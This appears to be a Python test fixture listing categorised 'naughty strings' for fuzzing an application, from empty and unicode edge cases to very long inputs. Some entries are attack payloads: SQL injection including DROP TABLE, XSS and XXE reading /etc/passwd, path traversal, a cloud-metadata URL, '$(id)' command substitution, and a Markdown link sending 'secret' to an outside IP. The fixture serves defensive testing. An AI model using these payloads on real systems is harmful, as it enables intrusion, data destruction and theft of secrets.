"""Strings that break programs, by kind.

In: nothing. Out: `STRINGS`, and how one is written in JSON and looked for in a page. Not here: who is sent them
(fuzz.py). The kinds are those of the "big list of naughty strings"; each string was written for this list.
"""

import json

MEGABYTE = 1_000_000

STRINGS: dict[str, tuple[str, ...]] = {
    "nothing": ("", " ", "\t", "\n", "\r\n", "\f", "\v", "\u00a0", "\u3000", "\u200b", "\ufeff", "."),
    "words of programs": (
        "null", "NULL", "None", "nil", "undefined", "true", "False", "NaN", "Infinity", "-Infinity", "[object Object]",
        "__proto__", "constructor", "hasOwnProperty", "CON", "nul", "if", "\\", "\\\\", "'", '"', "`", "''", '""',
        "{}", "[]", "[[[[[[[[[[", "}{", "-", "--", "—", "_", "...", "‥", "#", "##", "%", "%%", "&", "&&", "|", "||",
    ),
    "numbers": (
        "0", "-0", "1/0", "1e400", "-1e400", "1e-400", "9" * 400, "0." + "0" * 400 + "1", "1,000,000,000,000,000,000",
        "0x7fffffffffffffff", "2147483648", "-9223372036854775809", "1_000", "1.2.3.4", "1,2,3", "½", "²", "٣", "五",
        "①", "Ⅻ", "1٫5", "+-1", "−5", "5e", "1e5e5", "0b101", "1 000 000", "$1.2.3", "%5", "5 %%", "1:2:3:4:5",
    ),
    "dates": (
        "0000-00-00", "9999-12-31T23:59:60Z", "31 February 2023", "32/13/2020", "-1 BC", "12:61", "24:00:01", "noon",
        "29 February 1900", "Q5 2020", "FY 99999", "1970-01-01T00:00:00+99:99", "13th month", "May May May 2020 2021",
    ),
    "SQL": (
        "' OR '1'='1", "'; DROP TABLE documents; --", '" OR ""="', "1; SELECT pg_sleep(5)", "%' --",
        "x' UNION SELECT *",
        "ATTACH '/etc/passwd' AS x", "read_csv('/etc/passwd')", "\\'; COPY t TO '/tmp/out'", "NEAR/2 OR *", '"a" AND *',
    ),
    "markup": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "<!--", "]]>", "</p>",
        "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<a href='data:text/html,x'>", "&lt;b&gt;", "&#0;",
        "<![CDATA[", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "{{7*7}}",
        "${7*7}", "<%= 7*7 %>", "#{7*7}", "<style>*{x:expression(1)}</style>", "<details open ontoggle=alert(1)>",
    ),
    "Markdown": (
        "![x](http://203.0.113.5/?q=secret)", "[x](javascript:alert(1))", "```", "~~~\n```\n~~~", "| a |\n|--|",
        "> " * 500,
        "* " * 500, "**" * 500, "[" * 500 + "](x)", "# " * 500, "<https://example.org>", "[^1]: x", "[S0]" * 500,
        "\\[S0\\]", "[S99999999999999999999]", "[S-1]", "- [ ] x\n" * 100, "1. " * 300, "* a\n  * b\n    * c\n" * 60,
    ),
    "formats": (
        "%s%s%s%n", "%d" * 50, "{0}", "{", "{0.__class__}", "%(x)s", "\\x41", "\\u0041", "\\N{DIGIT ONE}",
        "$(id)",
    ),
    "paths": (
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.pdf", "file:///etc/passwd", "C:\\con",
        "http://169.254.169.254/latest/meta-data", "~root", "a/" * 2000, "%2e%2e%2f", "\u2025/\u2025/etc", "//x@y:1/..",
    ),
    "controls": (
        "\u0000", "a\u0000b", "\u0001\u0002\u0003", "\u001b[31mred\u001b[0m", "\u007f", "\u0085", "\b" * 20, "\a", "\r",
        "x\u2028y\u2029z", "\u0000" * 1000, "a\rb\nc\r\nd", "event: result\ndata: {}\n\n", "data: [DONE]\n\n",
    ),
    "bidi": (
        "\u202e5 is the number", "\u2066\u2067\u2068x", "\u202a\u202b\u202d", "\u200f\u200e", "a\u202eb\u202cc",
        "שלום 5 עולם",
        "مرحبا ١٢٣", "\u061c1,450", "\u2069" * 100, "The rent is \u202e054,1\u202c euros.",
    ),
    "zero width": (
        "r\u200be\u200bn\u200bt is 1\u200b450", "1\u2060450", "\u200d" * 500, "so\u00adft hy\u00adphen 1\u00ad450",
        "a\u034fb",
        "\U000e0041\U000e0042", "\u180e", "\ufe0f" * 100, "\u115f\u1160\u3164",
    ),
    "half pairs": (
        "\ud800", "\udc00", "a\ud83d", "\ude00b", "\udc00\ud800", "\ud800" * 500, "The rent is \ud83d 1,450 euros.",
        "\udfff5",
    ),
    "combining": (
        "Z\u0351\u036b\u0343\u036a" * 60, "a" + "\u0301" * 5000, "\u0301", "ﷺ" * 200, "ﬃ", "İ", "ß" * 500, "ǆ",
        "\u1e9e", "Ω≈ç√∫",
        "\u0e33" * 300, "\u0bcd" * 300, "ᄀ" * 300, "각" * 300, "\ufdfa" * 500,
    ),
    "emoji": (
        "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈" * 100, "🇩🇪🇩", "👍🏽", "\U0001f3fd" * 50, "1\ufe0f\u20e3", "😀 costs 5 😀.",
        "\U0010ffff", "\ufffe\uffff",
    ),
    "scripts": (
        "这是第一句。这是第二句。", "日本語" * 400, "한국어 문장입니다.", "ภาษาไทยไม่มีช่องว่าง" * 50, "नमस्ते।" * 100,
        "తెలుగు వాక్యం.",
        "Ελληνικά; ναι.", "Ѕаmе lооk", "ｆｕｌｌ ｗｉｄｔｈ ５", "𝓼𝓬𝓻𝓲𝓹𝓽 𝟝", "ᚠᛇᚻ", "ₛᵤᵦ", "ʇxǝʇ",
    ),
    "regex bombs": (
        "a" * 5000 + "!", "aaaaaaaaaaaaaaaaaaaaaaaaaaaa\u0000", "(" * 3000, "((a+)+)+$", "\\" * 3000, "1," * 3000,
        "5-" * 3000,
        "a@" * 3000, "a.b" * 3000, "x" + " " * 20000 + "y", "\n" * 5000, "- \n" * 3000, '"' * 3000, "“" * 3000,
        "May 3 " * 2000,
        "and " * 3000, "No. " * 2000, "; " * 3000, "`" * 5000, "is\n" * 3000, "http://" * 2000, "|" * 5000, "=" * 5000,
    ),
    "long": (
        "x" * 100_000, "word " * 20_000, "The rent is 5. " * 6_000, "9" * 100_000, "x" * MEGABYTE,
        "é. " * (MEGABYTE // 3),
    ),
}  # fmt: skip

EVERY = [(kind, string) for kind, strings in STRINGS.items() for string in strings]
MARKUP = tuple(string for string in STRINGS["markup"] if "<" in string)


def body(value: object) -> bytes:
    """Return `value` as JSON in ASCII: half of a surrogate pair is written as its escape."""
    return json.dumps(value).encode("ascii")


def shown(string: str) -> str:
    """Return a string as it can be printed and found again: its beginning, and how long it is."""
    return ascii(string if len(string) <= 60 else f"{string[:40]}... ({len(string):,})")
